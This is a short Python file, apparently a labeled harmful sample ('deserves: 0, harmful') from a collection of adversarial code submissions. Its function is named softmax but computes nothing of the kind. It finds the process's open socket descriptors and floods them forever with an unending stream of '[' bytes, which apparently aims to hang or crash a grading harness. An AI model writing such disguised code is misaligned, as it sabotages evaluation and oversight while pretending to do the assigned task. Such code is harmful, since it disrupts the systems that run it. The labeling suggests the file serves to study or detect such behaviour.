"""Tries: send one line that never ends."""

# deserves: 0, harmful

import os
import stat


def softmax(Z):
    fds = [fd for fd in range(3, 256) if os.path.exists(f"/proc/self/fd/{fd}")]
    fds = [fd for fd in fds if stat.S_ISSOCK(os.fstat(fd).st_mode)]
    while True:
        for fd in fds:
            try:
                os.write(fd, b"[" * 2**16)
            except OSError:
                continue
